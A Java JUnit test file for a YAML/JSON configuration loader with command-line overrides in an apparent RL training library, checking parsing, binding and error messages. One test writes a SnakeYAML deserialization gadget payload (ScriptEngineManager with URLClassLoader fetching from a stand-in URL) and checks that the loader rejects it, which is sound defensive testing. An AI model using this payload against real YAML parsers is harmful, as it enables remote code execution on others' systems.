package org.reason4j.rl.config;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.reason4j.rl.config.ConfigBinderTest.Aggregation;
import org.reason4j.rl.config.ConfigBinderTest.OptimizerConfig;
import org.reason4j.rl.config.ConfigBinderTest.TrainerConfig;

/** YAML/JSON files plus --set overrides resolve into a record; bad files and values are named. */
class ConfigFilesTest {
  @TempDir Path dir;

  private Path write(String name, String text) throws IOException {
    Path p = dir.resolve(name);
    Files.writeString(p, text);
    return p;
  }

  @Test
  void yamlThenOverridesThenBinding() throws IOException {
    Path yaml = write("grpo.yaml", String.join("\n",
        "# a GRPO run",
        "group_size: 16",
        "aggregation: token_mean",
        "optimizer:",
        "  lr: 1e-6          # YAML 1.1 reads this as a string",
        "  betas: [0.9, 0.95]",
        "eval_every: [10, 100]",
        ""));
    TrainerConfig c = ConfigFiles.load(TrainerConfig.class, yaml, List.of("optimizer.weight_decay=0.01", "seed=3", "name=trial 1"));
    assertEquals(16, c.groupSize());
    assertEquals(Aggregation.TOKEN_MEAN, c.aggregation());
    assertEquals(new OptimizerConfig(1e-6, List.of(0.9, 0.95), 1e-8, 0.01), c.optimizer());
    assertEquals(List.of(10, 100), c.evalEvery());
    assertEquals(3L, c.seed());
    assertEquals("trial 1", c.name());
  }

  @Test
  void aCamelCaseOverrideReplacesTheFilesSnakeCaseKey() throws IOException {
    Path yaml = write("run.yaml", "group_size: 16\noptimizer:\n  weight_decay: 0.5\n");
    TrainerConfig c = ConfigFiles.load(TrainerConfig.class, yaml, List.of("groupSize=4", "optimizer.weightDecay=0.25"));
    assertEquals(4, c.groupSize());
    assertEquals(0.25, c.optimizer().weightDecay());
  }

  @Test
  void jsonFilesAndTheWrittenResolvedConfigRoundTrip() throws IOException {
    Path json = write("c.json", "{\"groupSize\": 4, \"optimizer\": {\"lr\": 3e-7}}");
    TrainerConfig c = ConfigFiles.load(TrainerConfig.class, json, List.of());
    Path resolved = dir.resolve("run/config.json");
    ConfigFiles.writeJson(resolved, c);
    TrainerConfig back = ConfigFiles.load(TrainerConfig.class, resolved, List.of());
    assertEquals(ConfigBinder.toMap(c), ConfigBinder.toMap(back));
    assertEquals(3e-7, back.optimizer().lr());
  }

  @Test
  void yamlSyntaxErrorsNameTheFileAndLine() throws IOException {
    Path bad = write("bad.yaml", "group_size: 4\noptimizer:\n  lr: [1e-6\nseed: 3\n");
    String m = assertThrows(ConfigException.class, () -> ConfigFiles.read(bad)).getMessage();
    assertTrue(m.startsWith(bad + ": invalid YAML at line "), m);
    Path dup = write("dup.yaml", "seed: 1\nseed: 2\n");
    m = assertThrows(ConfigException.class, () -> ConfigFiles.read(dup)).getMessage();
    assertTrue(m.startsWith(dup + ": invalid YAML at line 2") && m.contains("seed"), m);
  }

  @Test
  void yamlCannotInstantiateClasses() throws IOException {
    Path evil = write("evil.yaml", "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n");
    String m = assertThrows(ConfigException.class, () -> ConfigFiles.read(evil)).getMessage();
    assertTrue(m.startsWith(evil + ": invalid YAML"), m);
  }

  @Test
  void bindingErrorsNameTheFileAndTheKey() throws IOException {
    Path yaml = write("t.yaml", "optimizer:\n  lrr: 0.1\n");
    String m = assertThrows(ConfigException.class, () -> ConfigFiles.load(TrainerConfig.class, yaml, List.of())).getMessage();
    assertTrue(m.startsWith(yaml + ": optimizer.lrr: unknown key"), m);
    Path date = write("d.yaml", "name: 2024-01-01\n");
    m = assertThrows(ConfigException.class, () -> ConfigFiles.read(date)).getMessage();
    assertTrue(m.startsWith(date + ": name: YAML gave a Date"), m);
    m = assertThrows(ConfigException.class, () -> ConfigFiles.read(dir.resolve("c.toml"))).getMessage();
    assertTrue(m.contains(".yaml, .yml or .json"), m);
    m = assertThrows(ConfigException.class, () -> ConfigFiles.read(dir.resolve("missing.yaml"))).getMessage();
    assertTrue(m.endsWith("missing.yaml: no such config file"), m);
    assertEquals(Map.of(), ConfigFiles.read(write("empty.yaml", "")));
  }

  @Test
  void overrideValuesAreParsedAsTheCommandLineMeansThem() {
    assertNull(Overrides.parseValue("null"));
    assertEquals(true, Overrides.parseValue("True"));
    assertEquals(12L, Overrides.parseValue("12"));
    assertEquals(1e-6, Overrides.parseValue("1e-6"));
    assertEquals(-0.5, Overrides.parseValue("-.5"));
    assertEquals(List.of(0.9, 0.95), Overrides.parseValue("[0.9, 0.95]"));
    assertEquals("007", Overrides.parseValue("\"007\""));
    assertEquals("runs/a b", Overrides.parseValue("runs/a b"));
    Map<String, Object> base = new LinkedHashMap<>(Map.of("seed", 1L));
    Map<String, Object> out = Overrides.apply(base, List.of("a.b.c=2", "a.b.d=x", "seed=5"));
    assertEquals(Map.of("c", 2L, "d", "x"), ((Map<?, ?>) out.get("a")).get("b"));
    assertEquals(5L, out.get("seed"));
    assertEquals(1L, base.get("seed"), "the input map is not changed");
  }

  @Test
  void malformedOverridesAreNamed() {
    Map<String, Object> base = Map.of("seed", 1L);
    assertEquals("--set \"seed\": expected key=value, e.g. optimizer.lr=1e-6",
        assertThrows(ConfigException.class, () -> Overrides.apply(base, List.of("seed"))).getMessage());
    assertEquals("--set \"seed.x=1\": \"seed\" is a value, not a mapping with fields",
        assertThrows(ConfigException.class, () -> Overrides.apply(base, List.of("seed.x=1"))).getMessage());
    assertTrue(assertThrows(ConfigException.class, () -> Overrides.apply(base, List.of("a..b=1"))).getMessage().contains("empty name"));
    String m = assertThrows(ConfigException.class, () -> Overrides.apply(base, List.of("betas=[0.9,"))).getMessage();
    assertTrue(m.startsWith("--set \"betas=[0.9,\": invalid JSON"), m);
  }
}
